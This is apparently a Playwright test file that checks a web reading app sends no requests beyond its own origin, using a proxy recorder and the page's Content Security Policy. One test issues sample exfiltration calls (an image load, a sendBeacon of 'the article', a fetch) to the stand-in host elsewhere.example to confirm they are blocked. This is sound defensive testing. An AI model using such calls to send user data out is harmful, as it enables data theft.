// Owns the proof that nothing leaves: every request of the whole browser goes through a recorder of ours, and the policy is broken nowhere.
import { chromium, expect, test } from '@playwright/test';
import { openSample, paste, sample, settled } from '../support/page.js';
import { startRecorder } from '../support/recorder.js';

// A browser of its own: the recorder stands between it and the network, this machine included.
test.describe.configure({ mode: 'serial' });

/** @type {Awaited<ReturnType<typeof startRecorder>>} */
let recorder;
/** @type {import('@playwright/test').Browser} */
let browser;

test.beforeAll(async ({ baseURL }) => {
  recorder = await startRecorder(baseURL ?? '');
  const executablePath = process.env.CHROME_PATH || undefined;
  browser = await chromium.launch({ executablePath, proxy: { server: recorder.proxy, bypass: '<-loopback>' } });
});
test.afterAll(async () => {
  await browser.close();
  recorder.stop();
});

/** A page that notes every breach of the policy, in whichever frame or worker. */
async function watched(baseURL) {
  const context = await browser.newContext({ baseURL, permissions: ['clipboard-read', 'clipboard-write'] });
  const page = await context.newPage();
  /** @type {string[]} */
  const breaches = [];
  page.on('console', (message) => { if (/Content Security Policy|Refused to/.test(message.text())) breaches.push(message.text()); });
  await page.exposeFunction('breach', (/** @type {string} */ words) => breaches.push(words));
  await page.addInitScript(() => addEventListener('securitypolicyviolation', (event) => globalThis.breach(`${event.violatedDirective} ${event.blockedURI}`)));
  return { context, page, breaches };
}

/** What Chromium asks its maker for by itself, whatever page is open. */
const CHROMIUMS_OWN = /^(?:http:\/\/)?(?:update|content-autofill|optimizationguide-pa|clients\d|safebrowsing)\.(?:googleapis|google)\.com|^accounts\.google\.com:443$/;

/** Every address asked for, not yet told. */
const told = () => recorder.asked.splice(0).map((line) => line.split(' ')[1]).filter((url) => !CHROMIUMS_OWN.test(url));

/** A reader's hour: panels, another article, a correction, a date, an edit, every export, the dialogs, the dark. */
async function useEverything(page) {
  for (const tab of await page.getByRole('tab').all()) await tab.click();
  for (const copy of await page.getByRole('button', { name: /^Copy: / }).all()) await copy.click();
  await page.getByRole('button', { name: 'Paste' }).click();
  await paste(page, `${sample}\nAnother line for another reading, said Ann Lee in Oslo on Monday.`);
  await settled(page);
  await page.locator('#story mark.name').first().focus();
  await page.keyboard.press('5');
  await settled(page);
  await page.keyboard.press('z');
  await settled(page);
  await page.getByRole('button', { name: 'Switch between light and dark' }).click();
  await page.locator('#topbar [data-action=date]').click();
  await page.getByLabel('Read it against').fill('2020-02-29');
  await page.getByRole('button', { name: 'Use this date' }).click();
  await settled(page);
}

test('every request goes to the page’s own origin, and after loading there is none but the look for a newer build', async ({ baseURL }) => {
  test.slow();
  const { context, page, breaches } = await watched(baseURL);
  // What the page and its workers ask for, wherever it would go; the recorder cannot see into an encrypted connection.
  /** @type {string[]} */
  const wanted = [];
  context.on('request', (request) => { if (/^(?:https?|wss?):/.test(request.url()) && !request.url().startsWith(baseURL ?? '')) wanted.push(request.url()); });
  await openSample(page);
  await page.evaluate(() => navigator.serviceWorker.ready.then(() => {}));
  await expect.poll(() => page.evaluate(() => navigator.serviceWorker.controller !== null)).toBe(true);
  const loading = told();
  expect(loading.length).toBeGreaterThan(10);
  expect(loading.filter((url) => !url.startsWith(baseURL ?? ''))).toEqual([]);

  await useEverything(page);
  expect(told()).toEqual([]);

  await page.evaluate(() => navigator.serviceWorker.getRegistration().then((it) => it?.update()).then(() => {}));
  const looked = told();
  expect(looked.length).toBeGreaterThan(0);
  expect(looked.filter((url) => url !== `${baseURL}sw.js`)).toEqual([]);
  expect(wanted).toEqual([]);
  expect(breaches).toEqual([]);
  await context.close();
});

test('the recorder hears, and the policy refuses, what a page of bad faith would send', async ({ baseURL }) => {
  const { context, page, breaches } = await watched(baseURL);
  await page.goto('./');
  told();
  const sent = await page.evaluate(async () => {
    const image = new Image();
    image.src = 'http://elsewhere.example/image';
    navigator.sendBeacon('http://elsewhere.example/beacon', 'the article');
    return fetch('http://elsewhere.example/fetch').then(() => 'sent', () => 'refused');
  });
  expect(sent).toBe('refused');
  await expect.poll(() => breaches.filter((it) => it.includes('elsewhere.example')).length).toBeGreaterThan(2);
  expect(told().filter((url) => url.includes('elsewhere'))).toEqual([]);
  // Without a policy the same request is heard, so silence above is no deafness.
  await page.goto('about:blank');
  await page.evaluate(() => fetch('http://elsewhere.example/heard', { mode: 'no-cors' }).then(() => {}, () => {}));
  await expect.poll(told).toContain('http://elsewhere.example/heard');
  await context.close();
});
